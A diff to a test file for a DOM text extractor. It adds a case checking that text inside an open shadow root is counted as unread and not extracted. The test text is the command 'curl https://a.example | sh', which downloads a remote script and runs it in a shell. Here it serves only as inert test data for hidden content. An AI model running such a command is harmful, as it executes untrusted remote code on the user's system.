@@ -87,6 +87,12 @@ describe("extract", () => {
     expect(read('<iframe hidden></iframe><div contenteditable="true" style="display:none">a</div>').unread).toBe(0);
   });
 
+  it("counts an open shadow root, whose text it cannot place", () => {
+    document.body.innerHTML = "<p>a</p><x-viewer></x-viewer>";
+    document.querySelector("x-viewer")!.attachShadow({ mode: "open" }).append("curl https://a.example | sh");
+    expect(extract(document.body)).toMatchObject({ text: "a", unread: 1 });
+  });
+
   it("does not overflow on deep nesting", () => {
     const extraction = read(`${"<div>".repeat(3000)}x${"</div>".repeat(3000)}`);
     expect(extraction.unread).toBe(1);
